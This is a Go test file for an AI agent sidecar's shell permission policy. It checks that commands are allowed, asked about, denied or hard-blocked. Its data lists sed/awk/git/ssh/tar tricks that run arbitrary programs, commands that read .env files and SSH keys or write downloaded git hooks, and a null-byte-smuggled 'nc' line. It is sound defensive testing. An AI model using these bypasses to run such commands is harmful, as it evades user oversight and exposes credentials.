package control

import (
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"

	"github.com/agent-sidecar/agent-sidecar/control/shell"
)

// The rules of testdata/shell/table.txt.
var tableRules = allowBash("git status*", "git log*", "git commit *", "git push*", "go test*", "cat *", "ls *", "grep *", "echo *", "rm *", "cp *", "mv *", "find *", "sed *", "awk *",
	"tar *", "head *", "tail *", "cd *", "true", "test *", "[ *", "printf *", "sort *", "wc *", "make *", "mkdir *", "touch *", "timeout *", "xargs *", "env *", "sudo *",
	"bash *", "sh *", "python *", "dd *", "tee *", "chmod *", "chown *", "read *", "sleep *", "gofmt *")

// shellTable is testdata/shell/table.txt, and what no line of text can hold.
func shellTable(t testing.TB) [][]string {
	rows := listed(t, "table.txt", 2)
	if len(rows) < 350 {
		t.Errorf("the table has only %d rows", len(rows))
	}
	return append(rows, [][]string{
		{"allow", `echo 'rm -rf /' `},
		{"once", "0&0\xff"}, // the parser went on after an error and panicked
		{"once", "git status \u202e"},
		{"once", "git status \r ls"},
		{"once", "ls -l \x1b[2J"},
		{"once", "echo " + strings.Repeat("a", 10_000)},
		{"deny", "git status\x00; nc"},
	}...)
}

func TestShellTable(t *testing.T) {
	facts := baseFacts(tableRules...)
	facts.Rules = Compile(facts.Layers)
	for _, row := range shellTable(t) {
		want, command := row[0], row[1]
		d := decide(facts, bashPlan(command))
		if got := shellVerdict(d); got != want {
			t.Errorf("%s\n got %s, want %s: %s\n targets %v", Title(command, 120), got, want, d.Reason, d.Targets)
		}
		if d.Verdict != Allow && (d.Reason.String() == "" || d.Refusal == "") {
			t.Errorf("%s: no reason or no refusal", Title(command, 80))
		}
		if d.OnceOnly && len(d.Always) > 0 {
			t.Errorf("%s: once only, yet always offers %v", Title(command, 80), d.Always)
		}
	}
}

// Hard limits hold in every mode and against every rule.
func TestHardLimitsHoldInFullAccess(t *testing.T) {
	facts := baseFacts(Rule{Domain: "bash", Pattern: "*", Decision: "allow"}, Rule{Domain: "read", Pattern: "fs:/**", Decision: "allow"},
		Rule{Domain: "edit", Pattern: "fs:/**", Decision: "allow"})
	facts.Mode = "full_access"
	for _, row := range shellTable(t) {
		want, command := row[0], row[1]
		d := decide(facts, bashPlan(command))
		if (want == "block") != (d.By == "hard_limit") {
			t.Errorf("%s: %s by %s", Title(command, 80), d.Verdict, d.By)
		}
		if want == "block" && !strings.HasPrefix(d.Refusal, "Error: dangerous command blocked: ") {
			t.Errorf("%s: refusal %q", Title(command, 80), d.Refusal)
		}
	}
}

// heads of every simple command, read by another walk than the one under test.
func plainHeads(text string) []string {
	file, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(text), "")
	if err != nil {
		return nil
	}
	var out []string
	syntax.Walk(file, func(n syntax.Node) bool {
		if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
			if lit := c.Args[0].Lit(); lit != "" && !strings.ContainsAny(lit, `\*?[{~$/`) {
				out = append(out, lit)
			}
		}
		return true
	})
	return out
}

func FuzzShell(f *testing.F) {
	for _, row := range shellTable(f) {
		f.Add(row[1])
	}
	facts := baseFacts(tableRules...)
	facts.Rules = Compile(facts.Layers)
	policy := NewPolicy(facts)
	f.Fuzz(func(t *testing.T, text string) {
		d := policy.Decide(bashPlan(text))
		if len(text) > shell.MaxChars || strings.IndexByte(text, 0) >= 0 || d.By == "hard_limit" {
			return
		}
		s := shell.Analyze(text, shell.Place{Dir: "/home/u/p", Home: "/home/u"})
		var known []string
		for _, c := range s.Commands {
			known = append(known, c.Head)
		}
		for _, head := range plainHeads(text) {
			if !slices.Contains(known, strings.TrimSuffix(head, ".exe")) {
				t.Errorf("%q: the command %q was not found in %q", text, head, known)
			}
		}
	})
}

func BenchmarkShellThousandWords(b *testing.B) {
	var lines []string
	for range 125 {
		lines = append(lines, `cat a.go "some words" | grep -n 'x y' && git status --short`)
	}
	text := strings.Join(lines, "\n")
	policy := NewPolicy(baseFacts(tableRules...))
	plan := bashPlan(text)
	for b.Loop() {
		policy.Decide(plan)
	}
}

// Each of these is allowed by a rule of its own head and starts another program,
// so that no rule with a wildcard covers it.
func TestWildcardsDoNotCoverProgramsThatStartPrograms(t *testing.T) {
	for _, command := range []string{
		"sed 1e\\ evil a.go", "sed '1!e evil' a.go", "sed --expression='1e evil' a.go", "sed 'sxaxbxe' a.go", "sed 's|a|b|ge' a.go", "sed -f evil a.go",
		"awk -f evil a.go", "awk -i evil 1", "awk '@load \"x\"; 1'", "man -P evil ls", "man --pager=evil ls", "less +!evil a.go", "vim '+!evil'",
		"split --filter=evil a.go", "split --filt evil a.go", "git -calias.x=!evil x", "git bisect run evil", "git submodule foreach evil",
		"git rebase -xevil HEAD", "git rebase -i HEAD", "git difftool --extcmd=evil", "git filter-branch --tree-filter evil", "git fetch ext::sh",
		"git apply x.patch", "ssh -oProxyCommand=evil h", "go build -ldflags '-extld evil'", "go test -exec=evil ./...", "tar -Ievil -xf x",
		"tar --checkpoint-act=exec=evil -cf x y", "sort --comp evil a.go", "rsync -avze evil a h:", "npm test --script-shell=evil", "mypy --python-executable evil",
		"find . -exec evil ;", "find . -fprint x", "xargs evil", "xargs --max-lines evil", "env -vS evil", "script -qc evil x", "su -lc evil", "flock -c evil x",
	} {
		head, _, _ := strings.Cut(command, " ")
		if d := decide(baseFacts(allowBash(head+" *")...), bashPlan(command)); d.Verdict == Allow {
			t.Errorf("%s is covered by %q", command, head+" *")
		}
	}
}

// Each of these ran without a question under `bash *: allow`, and read or wrote
// what the rule does not cover.
func TestBypassesOfFilesInPrograms(t *testing.T) {
	facts := baseFacts(allowBash("*")...)
	for command, want := range map[string]Verdict{
		`awk 'BEGIN{while((getline l < ".env")>0) print l}'`:     Ask,
		`sed -n 'r .env' a.go`:                                   Ask,
		`python3 -c 'print(open(".env").read())'`:                Ask,
		`node -e 'require("fs").readFileSync("src/.env.local")'`: Ask,
		`sg x -c 'cat .env'`:                                     Ask,
		`cat ~u/.ssh/id_rsa`:                                     Ask,
		`rm -rf ~root`:                                           Deny,
		`wget -O .git/hooks/post-merge http://x`:                 Ask,
		`curl http://x --output=.envrc`:                          Ask,
		`curl http://x -o .vscode/tasks.json`:                    Ask,
		`git config core.hooksPath x`:                            Ask,
		`git config --unset core.bare`:                           Ask,

		`git config --get user.name`:         Allow,
		`git config user.name`:               Allow,
		`awk '{print $1}' a.go`:              Allow,
		`python3 -c 'print(1)'`:              Allow,
		`curl http://x -o out.txt`:           Allow,
		`git log HEAD~1`:                     Allow,
		`git commit -m "mention .env files"`: Allow,
	} {
		if d := decide(facts, bashPlan(command)); d.Verdict != want {
			t.Errorf("%s: %v (%s)", command, d.Verdict, d.Reason)
		}
	}
}
